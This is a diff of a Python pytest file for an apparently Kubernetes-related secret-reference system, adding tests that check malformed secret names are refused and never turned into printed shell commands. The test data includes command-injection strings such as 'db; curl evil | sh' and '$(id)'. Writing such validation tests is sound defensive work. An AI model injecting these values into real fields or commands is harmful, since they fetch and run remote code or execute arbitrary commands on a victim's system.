@@ -6,7 +6,7 @@ from typing import Any
 import pytest
 from torpor.triggers.secrets import Revealed
 from torpor_api.resources import EVENTS, TASKRUNS
-from torpor_triggerer import admission
+from torpor_triggerer import admission, vault
 from torpor_triggerer.vault import SECRETS, Vault
 from torpor_wire import keys, trigger, typed
 from torpor_wire.secret_ref import SecretRef
@@ -167,6 +167,24 @@ async def test_data_that_looks_like_a_marked_reference_is_data() -> None:
         await begun(made, "a", kwargs={"name": "a", "x": typed.encode(data)})
         assert made.given[0]["x"] == data
         assert made.reviews == []
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [{"name": "db; curl evil | sh", "key": "k"}, {"name": "$(id)", "key": "k"}, {"name": "db", "key": "\x1b[2J"}],
+)
+async def test_a_name_that_no_secret_can_have_is_refused_before_anybody_is_asked(bad: dict[str, str]) -> None:
+    async with world() as made:
+        await begun(made, "a", kwargs={"name": "a", "x": {"__type": "secretRef", "__var": bad}})
+        assert made.stands("a") == ("Failed", "TriggerInvalid")
+        assert "of a Secret" in made.status("a")["message"]
+        assert "kubectl" not in made.status("a")["message"]
+        assert not [one for one in made.fake.requests if "subjectaccessreviews" in one.path]
+
+
+@pytest.mark.parametrize(("account", "name"), [("x; curl evil | sh", "db"), ("torpor-task", "$(id)"), ("a\nb", "db")])
+def test_no_command_is_printed_with_a_name_that_a_shell_would_not_take_as_it_is(account: str, name: str) -> None:
+    assert vault.commands(vault.Reader(NAMESPACE, account), name) == ""
 
 
 async def test_what_is_no_text_is_refused() -> None:
